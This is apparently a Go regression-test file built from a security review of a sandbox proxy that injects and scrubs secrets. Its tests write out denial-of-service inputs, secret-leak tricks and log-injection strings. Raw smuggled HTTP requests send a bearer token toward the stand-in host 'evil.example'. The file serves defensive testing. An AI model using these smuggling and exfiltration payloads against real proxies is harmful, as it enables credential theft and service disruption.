package egress

// An outside review of the secrets' egress (after 85709fd): each test was
// a finding, written to fail while it stood; they stay as regression
// tests. A secret value shorter than redact.MinRun is refused by the
// configuration (internal/config).

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sandboxd/sandboxd/internal/egress/egresstest"
	"github.com/sandboxd/sandboxd/internal/redact"
)

// dialTLS is the sandbox's side of an intercepted connection to the
// bound host, for tests that read answers one by one.
func (rig *attackRig) dialTLS(t *testing.T, deadline time.Duration) net.Conn {
	t.Helper()
	c, err := net.Dial("unix", rig.sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	_ = c.SetDeadline(time.Now().Add(deadline))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", rig.tlsAddr, rig.tlsAddr)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	tc := tls.Client(&bufferedConn{Conn: c, r: br}, &tls.Config{RootCAs: rig.trust, ServerName: "127.0.0.1", NextProtos: []string{"http/1.1"}})
	if err := tc.Handshake(); err != nil {
		t.Fatal(err)
	}
	return tc
}

// ---------------------------------------------------------------------
// DoS / broken: every keep-alive client hangs on an intercepted host.
//
// prepare() makes every answer with a body length-less (ContentLength
// -1, Content-Length removed). Response.Write then falls back to
// "Connection: close" + read-to-EOF for a non-chunked answer, but
// intercept() only looks at resp.Close (the server's), not at what it
// wrote, so it keeps the connection open and waits for the next request
// while the client waits for EOF. curl, python-requests, Go's client
// with keep-alives... all hang forever (no deadline on the inner
// connection), each holding one of the sandbox's connections. The tests
// only ever send "Connection: close" (and testGate's client disables
// keep-alives), so this was never seen.
func TestReviewKeepAliveClientHangsOnIntercept(t *testing.T) {
	rig := newAttackRig(t)
	c := rig.dialTLS(t, 3*time.Second)
	io.WriteString(c, "GET /check HTTP/1.1\r\nHost: "+rig.tlsAddr+"\r\nAuthorization: Bearer "+rig.bearer+"\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Errorf("a keep-alive client never gets the end of the answer (%v); it got %q with headers %v: the proxy said Connection: close, sent no length, and never closed", err, body, resp.Header)
	}
}

// ---------------------------------------------------------------------
// DoS: the intercepted request's header has no size limit.
//
// The forward path goes through http.Server (MaxHeaderBytes 64 KiB), but
// intercept() calls http.ReadRequest, i.e. textproto.ReadMIMEHeader with
// math.MaxInt64 limits. Bytes from the sandbox to the proxy are not
// metered either (only the upstream conn is), so a sandbox that holds a
// placeholder makes sandboxd hold as much memory as it sends.
func TestReviewInterceptReadsUnboundedHeaders(t *testing.T) {
	rig := newAttackRig(t)
	c := rig.dialTLS(t, 60*time.Second)
	line := "X-Pad: " + strings.Repeat("a", 8<<10-9) + "\r\n"
	const total = 48 << 20
	chunk := []byte(strings.Repeat(line, 64)) // 512 KiB
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	io.WriteString(c, "GET /check HTTP/1.1\r\nHost: "+rig.tlsAddr+"\r\n")
	wrote := 0
	for wrote < total {
		n, err := c.Write(chunk)
		wrote += n
		if err != nil {
			break
		}
	}
	io.WriteString(c, "\r\n")
	c.Read(make([]byte, 1)) // the proxy has read it all once it answers or closes
	runtime.ReadMemStats(&after)
	if wrote >= total {
		t.Errorf("the proxy took a %d MiB request header from the sandbox without refusing it (sandboxd allocated %d MiB meanwhile); the forward path stops at 64 KiB",
			wrote>>20, (after.TotalAlloc-before.TotalAlloc)>>20)
	}
}

// ---------------------------------------------------------------------
// DoS: the scrubber is quadratic in the matches of a buffer, and needs no
// hostile server.
//
// Replacer.next rescans every pattern from i after each match (each
// bytes.Index of an absent pattern runs to the end of the data). A header
// value is scrubbed whole (String), so k values in one header cost
// ~k * patterns * len. The sandbox makes the value appear k times with
// one header of k placeholders (the proxy writes the value at each; the
// intercept has no header limit, the server's is 1 MiB); the fixture
// echoes it in two headers and the body. Measured here: ~1 s of
// sandboxd CPU per MiB (vs 4 ms for a MiB without matches); the default
// budget (1 GiB per execution) buys ~1000 of these requests. A gzip'd
// answer (decoded before the scrub, and the decoded bytes are not
// counted against the budget) multiplies it by up to ~1000 for a
// hostile server: TestReviewGzipBypassesBudget.
func TestReviewScrubberIsQuadratic(t *testing.T) {
	rig := newAttackRig(t)
	k := 900 // a header of ~54 KiB (the proxy takes 64 KiB); the answer holds the value 3 x 900 times
	auth := "Authorization: Bearer " + strings.TrimSpace(strings.Repeat(rig.bearer+" ", k))
	start := time.Now()
	got := rig.send(t, true, "127.0.0.1", rig.request(true, "/echo", auth))
	took := time.Since(start)
	if !strings.Contains(got, "200 OK") {
		t.Fatalf("no answer: %.200q", got)
	}
	if took > 500*time.Millisecond {
		t.Errorf("one request with %d placeholders cost sandboxd %v (the answer is %d KiB)", k, took, len(got)>>10)
	}
}

// Hostile server at a secret's host: a gzip'd answer is decoded before
// the scrub and its decoded bytes are counted nowhere; with the
// quadratic scrub, a few KiB on the wire cost seconds of CPU, and the
// sandbox receives far more than the execution's byte budget.
func TestReviewGzipBypassesBudget(t *testing.T) {
	const decoded = 4 << 20
	var bomb bytes.Buffer
	zw := gzip.NewWriter(&bomb)
	io.WriteString(zw, strings.Repeat(egresstest.BearerValue, decoded/len(egresstest.BearerValue)))
	zw.Close()
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(bomb.Bytes())
	})
	rig := newReviewRig(t, h, "")
	start := time.Now()
	got := rig.send(t, true, "127.0.0.1", rig.request(true, "/", "Authorization: Bearer "+rig.bearer))
	took := time.Since(start)
	sent, received := rig.g.ExecutionTransferred()
	if len(got) >= decoded || took > 500*time.Millisecond {
		t.Errorf("%d KiB on the wire (budget %d KiB; counted %d sent + %d received) gave the sandbox %d KiB and cost sandboxd %v",
			bomb.Len()>>10, rig.g.limits.MaxBytes>>10, sent, received, len(got)>>10, took)
	}
}

// ---------------------------------------------------------------------
// Value leaks: response header NAMES are not scrubbed.
//
// prepare() scrubs each header's values; the names go to the sandbox as
// the server sent them (canonicalised: hex digits stay lower case).
// "every byte the proxy hands a sandbox passes a scrubber" does not hold.
func TestReviewResponseHeaderNamesAreNotScrubbed(t *testing.T) {
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header()["X-"+hex.EncodeToString([]byte(r.Header.Get("Authorization")))] = []string{"1"}
		io.WriteString(w, "ok")
	})
	rig := newReviewRig(t, h, "")
	for _, overTLS := range []bool{false, true} {
		got := rig.send(t, overTLS, "127.0.0.1", rig.request(overTLS, "/", "Authorization: Bearer "+rig.bearer))
		if leak := egresstest.GivesAway(got); leak != "" {
			t.Errorf("tls=%v: a header's name gives the value away (%q):\n%.400s", overTLS, leak, got)
		}
	}
}

// ---------------------------------------------------------------------
// Value leaks: two Content-Encoding lines.
//
// decoded() reads Header.Get (the first line) and then deletes them all.
// "Content-Encoding: gzip, gzip" on one line is refused (502), but the
// same on two lines is decoded once and the inner gzip stream goes to
// the sandbox, without the header, past a scrubber that cannot read it.
// "identity" then "gzip" passes the whole gzip stream undecoded.
func TestReviewStackedContentEncodingLines(t *testing.T) {
	gz := func(b []byte) []byte {
		var out bytes.Buffer
		zw := gzip.NewWriter(&out)
		zw.Write(b)
		zw.Close()
		return out.Bytes()
	}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body := gz([]byte("you sent " + r.Header.Get("Authorization")))
		switch r.URL.Path {
		case "/gzip-gzip":
			w.Header()["Content-Encoding"] = []string{"gzip", "gzip"}
			body = gz(body)
		case "/identity-gzip":
			w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
		}
		w.Write(body)
	})
	rig := newReviewRig(t, h, "")
	for _, path := range []string{"/gzip-gzip", "/identity-gzip"} {
		for _, overTLS := range []bool{false, true} {
			got := rig.send(t, overTLS, "127.0.0.1", rig.request(overTLS, path, "Authorization: Bearer "+rig.bearer))
			if leak := egresstest.GivesAway(got); leak != "" {
				t.Errorf("%s tls=%v: the sandbox got a gzip stream it decodes itself (%q)", path, overTLS, leak)
			}
		}
	}
}

// ---------------------------------------------------------------------
// Value misdirected (authority check): a request with no Host at all.
//
// foreignName: splitTarget("", 443) succeeds with host "", and the
// "h != host" branch returns h, i.e. "" == "not foreign". An HTTP/1.0
// request without Host inside the intercepted connection gets the
// secret, and Request.Write sends it upstream as HTTP/1.1 with an empty
// "Host:" line: the host's front end routes it to whatever its default
// virtual host is, not necessarily the name the secret is for.
func TestReviewRequestWithoutHostGetsTheSecret(t *testing.T) {
	var hostSeen atomic.Value
	hostSeen.Store("(no request)")
	echo := &egresstest.Echo{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hostSeen.Store(r.Host)
		echo.ServeHTTP(w, r)
	})
	rig := newReviewRig(t, h, "")
	got := rig.send(t, true, "127.0.0.1", "GET /check HTTP/1.0\r\nAuthorization: Bearer "+rig.bearer+"\r\n\r\n")
	if !strings.Contains(strings.SplitN(got, "\r\n", 2)[0], " 403 ") || len(echo.Got()) > 0 {
		t.Errorf("a request that names no host got the secret (the server saw Host %q and %q); answer:\n%.300s", hostSeen.Load(), echo.Got(), got)
	}
}

// ---------------------------------------------------------------------
// Value leaks (partial): the ends of a base64 run.
//
// The base64 forms cover value[skip:skip+3k], aligned. The base64 group
// that mixes the bytes before the value (which the sandbox chose) with
// its first 1-2 bytes, and the group that mixes its last 1-2 bytes with
// what follows, are left as they were. The sandbox chooses its prefix
// to set the alignment and decodes those groups: up to 2 bytes at each
// end of the value, from the fixture's own /encoded route.
func TestReviewBase64RunEndsGiveBytesAway(t *testing.T) {
	rig := newAttackRig(t)
	v := egresstest.BearerValue
	// /encoded answers base64("x" + "Bearer aa" + value + "||") first: the
	// value starts at byte 10, so the replaced run is value[2:26].
	got := rig.send(t, true, "127.0.0.1", rig.request(true, "/encoded", "Authorization: Bearer aa"+rig.bearer))
	resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	field, _, _ := strings.Cut(string(body), " ")
	left, right, ok := strings.Cut(field, rig.bearer)
	if !ok {
		t.Fatalf("no placeholder in %q", field)
	}
	l, err1 := base64.StdEncoding.DecodeString(left)
	r, err2 := base64.StdEncoding.DecodeString(right)
	if err1 != nil || err2 != nil {
		t.Fatalf("%v %v: %q %q", err1, err2, left, right)
	}
	first := strings.TrimPrefix(string(l), "xBearer aa")
	if strings.HasPrefix("xBearer aa", string(l)) {
		first = "" // what is left of the prefix holds none of the value
	}
	last, _, _ := strings.Cut(string(r), "|")
	if first != "" || last != "" {
		t.Errorf("the sandbox decodes the value's first bytes %q (value starts %q) and last %q (ends %q) around the placeholder in %q",
			first, v[:len(first)], last, v[len(v)-len(last):], field)
	}
}

// ---------------------------------------------------------------------
// Value leaks: common encodings the scrubber does not know, for a value
// with the characters that AWS secret keys, base64 keys and many tokens
// hold (/ + =), echoed by an ordinary (not hostile) server in its
// framework's own escaping. Each route is how a popular stack writes a
// string; the sandbox undoes it.
func TestReviewEncodingsTheScrubberMisses(t *testing.T) {
	const value = "wJalrXUtnFEMI/K7MDENG+bPxRfiCY/EXAMPLEKEY=="
	lowerPct := regexp.MustCompile(`%[0-9A-F]{2}`)
	tmpl := template.Must(template.New("").Parse(`<p>you sent {{.}}</p>`))
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		switch r.URL.Path {
		case "/dotnet": // HttpUtility.UrlEncode: lower-case hex
			io.WriteString(w, lowerPct.ReplaceAllStringFunc(url.QueryEscape(auth), strings.ToLower))
		case "/python": // urllib.parse.quote(s): '/' is safe by default
			io.WriteString(w, strings.ReplaceAll(url.QueryEscape(auth), "%2F", "/"))
		case "/gson": // Gson's default HTML-safe escaping: = as \u003d
			b, _ := json.Marshal(map[string]string{"auth": auth})
			io.WriteString(w, strings.ReplaceAll(string(b), "=", `\u003d`))
		case "/html-template": // Go's html/template: + as &#43;
			tmpl.Execute(w, auth)
		case "/ruby-base64": // Ruby's Base64.encode64 / MIME: a newline every 60 (76) chars
			b64 := base64.StdEncoding.EncodeToString([]byte("Authorization: " + auth))
			for i := 60; i < len(b64); i += 61 {
				b64 = b64[:i] + "\n" + b64[i:]
			}
			io.WriteString(w, b64)
		}
	})
	undo := map[string]func(string) string{
		"/dotnet":        func(s string) string { u, _ := url.QueryUnescape(s); return u },
		"/python":        func(s string) string { u, _ := url.QueryUnescape(s); return u },
		"/gson":          func(s string) string { var m map[string]string; json.Unmarshal([]byte(s), &m); return m["auth"] },
		"/html-template": html.UnescapeString,
		"/ruby-base64": func(s string) string {
			b, _ := base64.StdEncoding.DecodeString(strings.ReplaceAll(s, "\n", ""))
			return string(b)
		},
	}
	rig := newReviewRig(t, h, value)
	for _, path := range []string{"/dotnet", "/python", "/gson", "/html-template", "/ruby-base64"} {
		got := rig.send(t, true, "127.0.0.1", rig.request(true, path, "Authorization: Bearer "+rig.bearer))
		resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		b, _ := io.ReadAll(resp.Body)
		body := string(b)
		if resp.StatusCode != 200 || !strings.Contains(body, "sandboxd-secret-") {
			t.Errorf("%s: %d %q", path, resp.StatusCode, body)
		}
		if strings.Contains(undo[path](body), value) {
			t.Errorf("%s: the scrubber let %q through, which gives the value back", path, body)
		}
	}
}

// ---------------------------------------------------------------------
// Value leaks (race): prepare() asks for the gate's secrets when the
// answer arrives, not the ones written into its request.
//
// A request is sent with the value; before its answer comes back, the
// gate's secrets change (run.go: `defer gate.SetSecrets(nil)` when the
// run ends; the container is only killed/recycled after). The answer is
// then not scrubbed at all, and nothing closes the intercepted
// connection. A process still alive then (a survivor of the kill, which
// is what Survivors counts) reads the value and, the allow-list not yet
// cleared, may send it on through a plain tunnel.
func TestReviewAnswerAfterSecretsClearedIsNotScrubbed(t *testing.T) {
	arrived, release := make(chan struct{}), make(chan struct{})
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		close(arrived)
		<-release
		io.WriteString(w, "you sent "+r.Header.Get("Authorization"))
	})
	rig := newReviewRig(t, h, "")
	c := rig.dialTLS(t, 5*time.Second)
	io.WriteString(c, rig.request(true, "/slow", "Authorization: Bearer "+rig.bearer))
	<-arrived
	rig.g.SetSecrets(nil) // the run ends
	close(release)
	got, _ := io.ReadAll(c)
	if leak := egresstest.GivesAway(string(got)); leak != "" {
		t.Errorf("the answer to a request written while the secret was set came back unscrubbed (%q):\n%s", leak, got)
	}
}

// ---------------------------------------------------------------------
// Cosmetic / log injection: records quote the sandbox's bytes raw.
//
// placesOf names a query parameter by its *unescaped* name, so a refusal
// record (result's egress, state file, API answers, dashboard) carries
// any bytes the sandbox chose: newlines, terminal escapes, a fake
// "allowed" line.
func TestReviewRecordsQuoteSandboxBytesRaw(t *testing.T) {
	rig := newAttackRig(t)
	got := rig.send(t, false, "", rig.request(false, "/echo?x%0A%1B%5B2Kallowed%3A%20127.0.0.1="+rig.bearer))
	if !strings.HasPrefix(got, "HTTP/1.1 403") {
		t.Fatalf("not refused: %q", got)
	}
	records, _ := rig.g.Records()
	for _, r := range records {
		if strings.ContainsAny(r.Error, "\n\x1b") {
			t.Errorf("a record holds control bytes the sandbox chose: %q", r.Error)
		}
	}
}

// ---------------------------------------------------------------------
// redact.Handler (API answers over the socket, dashboard, E2B): three
// ways past it. Defence in depth only (the value should never be in an
// answer), but the doc calls it the last line of defence.
func TestReviewRedactHandlerBypasses(t *testing.T) {
	const value = "tok-9f2c41d7e0a85b36-bearer"
	r := redact.New(redact.Secret{Value: value, Replacement: "[secret svc]"})
	leaky := http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("X-Debug", value)
		if req.URL.Path == "/stream" {
			// Streaming handlers flush their headers first: Flush goes
			// straight to the underlying writer, so WriteHeader (where
			// headers are scrubbed) is never called.
			http.NewResponseController(w).Flush()
		}
		io.WriteString(w, value[:10]) // a value written in two Writes (a stream of output)
		io.WriteString(w, value[10:])
	})
	h := r.Handler(leaky)
	for _, tc := range []struct{ name, path, upgrade string }{
		{"any request with an Upgrade header", "/", "x"},
		{"headers flushed before the first write", "/stream", ""},
		{"a value split across writes", "/", ""},
	} {
		rec := httptest.NewRecorder()
		req := httptest.NewRequest("GET", tc.path, nil)
		if tc.upgrade != "" {
			req.Header.Set("Upgrade", tc.upgrade)
		}
		h.ServeHTTP(rec, req)
		res := rec.Result()
		b, _ := io.ReadAll(res.Body)
		if strings.Contains(res.Header.Get("X-Debug")+string(b), value) {
			t.Errorf("%s: the answer holds the value (X-Debug %q, body %q)", tc.name, res.Header.Get("X-Debug"), b)
		}
	}
}

// ---------------------------------------------------------------------
// Value leaks (all but the last bytes): a server that echoes a
// credential cut short. Error messages and logs commonly quote the
// first N characters of a header ("invalid token: ..."). The scrubber
// only knows whole forms; the sandbox pads the token so that the cut
// falls just before the value's last byte, reads the rest, and tries the
// last character against the service itself (~70 requests, placeholder
// not needed). Byte ranges were closed for this reason; this is the
// same thing in the server's words.
func TestReviewTruncatedEchoGivesAllButTheLastByte(t *testing.T) {
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		http.Error(w, "invalid credential: "+auth[:min(len(auth), 48)], http.StatusUnauthorized)
	})
	rig := newReviewRig(t, h, "")
	v := egresstest.BearerValue
	pad := strings.Repeat("x", 48-len("Bearer ")-len(v)+1)
	got := rig.send(t, true, "127.0.0.1", rig.request(true, "/", "Authorization: Bearer "+pad+rig.bearer))
	if strings.Contains(got, v[:len(v)-1]) {
		t.Errorf("the sandbox reads %q of the value %q:\n%s", v[:len(v)-1], v, got)
	}
}

// What held: each vector here passes. Requests are judged by what the
// server got (recorded); answers by what the sandbox got.
func TestReviewHeld(t *testing.T) {
	type seen struct{ host, query, auth, key string }
	var log []seen
	var mu = make(chan struct{}, 1)
	gz := func(s string) []byte {
		var b bytes.Buffer
		zw := gzip.NewWriter(&b)
		io.WriteString(zw, s)
		zw.Close()
		return b.Bytes()
	}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu <- struct{}{}
		log = append(log, seen{r.Host, r.URL.RawQuery, r.Header.Get("Authorization"), r.Header.Get("X-Api-Key")})
		<-mu
		echo := r.Header.Get("Authorization") + "|" + r.URL.RawQuery
		hijack := func(raw string) {
			c, buf, _ := http.NewResponseController(w).Hijack()
			buf.WriteString(raw)
			buf.Flush()
			c.Close()
		}
		switch r.URL.Path {
		case "/304-gzip":
			hijack("HTTP/1.1 304 Not Modified\r\nContent-Encoding: gzip\r\nX-A: " + echo + "\r\n\r\n" + string(gz(echo)))
		case "/head-gzip":
			hijack("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 40\r\n\r\n" + string(gz(echo)))
		case "/raw-deflate":
			hijack("HTTP/1.1 200 OK\r\nContent-Encoding: deflate\r\nContent-Length: 3\r\nConnection: close\r\n\r\n" + "\x4b\x4c\x04")
		case "/many-1xx":
			hijack(strings.Repeat("HTTP/1.1 103 Early Hints\r\nLink: <"+echo+">\r\n\r\n", 20) + "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
		case "/chunk-ext":
			hijack("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2;x=" + echo + "\r\nok\r\n0\r\n\r\n")
		case "/short-length": // a second answer hidden behind the first
			second := "HTTP/1.1 200 OK\r\nContent-Length: " + fmt.Sprint(len(echo)) + "\r\n\r\n" + echo
			hijack("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" + second)
		case "/te-and-cl":
			hijack("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(echo), echo))
		case "/gzip-304-body":
			w.Header().Set("Content-Encoding", "gzip")
			w.WriteHeader(http.StatusNoContent)
		default:
			io.WriteString(w, "ok")
		}
	})
	rig := newReviewRig(t, h, "")
	bearer, key, qv := egresstest.BearerValue, egresstest.HeaderValue, egresstest.QueryValue
	last := func() seen {
		mu <- struct{}{}
		defer func() { <-mu }()
		if len(log) == 0 {
			return seen{}
		}
		return log[len(log)-1]
	}
	count := func() int { mu <- struct{}{}; defer func() { <-mu }(); return len(log) }
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

	// Requests: refused (403, nothing reaches the server), or the value
	// written in its own place only.
	for _, overTLS := range []bool{false, true} {
		for _, tc := range []struct {
			name, path string
			headers    []string
			refused    bool
			check      func(seen) bool
		}{
			{"obs-fold into another header", "/", []string{"X-Note: a", " Bearer " + rig.bearer}, true, nil},
			{"two Authorization lines", "/", []string{"Authorization: Bearer " + rig.bearer, "Authorization: Bearer " + rig.bearer}, false,
				func(s seen) bool { return s.auth == "Bearer "+bearer }},
			{"odd-case header name", "/", []string{"aUtHoRiZaTiOn: Bearer " + rig.bearer}, false, func(s seen) bool { return s.auth == "Bearer "+bearer }},
			{"x-api-key lower case", "/", []string{"x-api-key: " + rig.header}, false, func(s seen) bool { return s.key == key }},
			{"; after the parameter", "/?api_key=" + rig.qry + ";x=1", nil, false,
				func(s seen) bool { return s.query == "api_key="+url.QueryEscape(qv+";x=1") }},
			{"; before the parameter", "/?x=1;api_key=" + rig.qry, nil, true, nil},
			{"API_KEY", "/?API_KEY=" + rig.qry, nil, true, nil},
			{"encoded & in another parameter", "/?x=%26api_key%3D" + rig.qry, nil, true, nil},
			{"encoded & in the parameter", "/?api_key=" + rig.qry + "%26x%3D1", nil, false,
				func(s seen) bool { return s.query == "api_key="+url.QueryEscape(qv+"&x=1") }},
			{"encoded parameter name", "/?api%5Fkey=" + rig.qry, nil, false, func(s seen) bool { return s.query == "api%5Fkey="+qv }},
			{"repeated parameter", "/?api_key=" + rig.qry + "&api_key=" + rig.qry, nil, false,
				func(s seen) bool { return s.query == "api_key="+qv+"&api_key="+qv }},
			{"the parameter's name only", "/?" + rig.qry, nil, true, nil},
			{"Basic for the X-Api-Key secret", "/", []string{"Authorization: Basic " + b64("u:"+rig.header)}, true, nil},
			{"Basic in X-Api-Key (not read, not written)", "/", []string{"X-Api-Key: Basic " + b64("u:"+rig.header)}, false,
				func(s seen) bool { return !strings.Contains(s.key, key) }},
			{"Proxy-Authorization", "/", []string{"Proxy-Authorization: Bearer " + rig.bearer}, true, nil},
			{"Connection: Accept-Encoding (compression back on: decoded or 502)", "/", []string{"Authorization: Bearer " + rig.bearer, "Connection: Accept-Encoding"}, false,
				func(s seen) bool { return s.auth == "Bearer "+bearer }},
		} {
			before := count()
			got := rig.send(t, overTLS, "127.0.0.1", rig.request(overTLS, tc.path, tc.headers...))
			switch {
			case tc.refused && (!strings.HasPrefix(got, "HTTP/1.1 403") || count() != before):
				t.Errorf("%s tls=%v: not refused: %.200q", tc.name, overTLS, got)
			case !tc.refused && (count() != before+1 || !tc.check(last())):
				t.Errorf("%s tls=%v: the server saw %+v; answer %.200q", tc.name, overTLS, last(), got)
			}
		}
	}
	// Inside the tunnel: other authorities, and CONNECT.
	for _, raw := range []string{
		"GET / HTTP/1.1\r\nHost: [::ffff:127.0.0.1]:" + strings.Split(rig.tlsAddr, ":")[1] + "\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: u@" + rig.tlsAddr + "\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
		"GET https://u@evil.example/ HTTP/1.1\r\nHost: " + rig.tlsAddr + "\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
		"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: " + rig.tlsAddr + "\r\nHost: evil.example\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: " + rig.tlsAddr + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " + rig.bearer + "\r\n\r\n",
	} {
		before := count()
		got := rig.send(t, true, "127.0.0.1", raw)
		if strings.Contains(got, "200 OK") && count() > before && strings.Contains(last().auth, bearer) && last().host != rig.tlsAddr {
			t.Errorf("%q: the value went to %q", raw, last().host)
		}
	}
	// Answers.
	for _, overTLS := range []bool{false, true} {
		for _, tc := range []struct{ path, method string }{
			{"/304-gzip", "GET"}, {"/head-gzip", "HEAD"}, {"/raw-deflate", "GET"}, {"/many-1xx", "GET"}, {"/chunk-ext", "GET"},
			{"/short-length", "GET"}, {"/te-and-cl", "GET"}, {"/gzip-304-body", "GET"},
		} {
			raw := rig.request(overTLS, tc.path, "Authorization: Bearer "+rig.bearer)
			raw = tc.method + strings.TrimPrefix(raw, "GET")
			if tc.path == "/short-length" { // pipelined: the hidden answer is read as the second's
				raw = strings.Replace(raw, "Connection: close\r\n", "", 1) + raw
			}
			got := rig.send(t, overTLS, "127.0.0.1", raw)
			if leak := egresstest.GivesAway(got); leak != "" {
				t.Errorf("%s %s tls=%v: %q in %q", tc.method, tc.path, overTLS, leak, got)
			}
		}
	}
	records, _ := rig.g.Records()
	for _, r := range records {
		if egresstest.GivesAway(r.Error) != "" {
			t.Errorf("record: %+v", r)
		}
	}
}
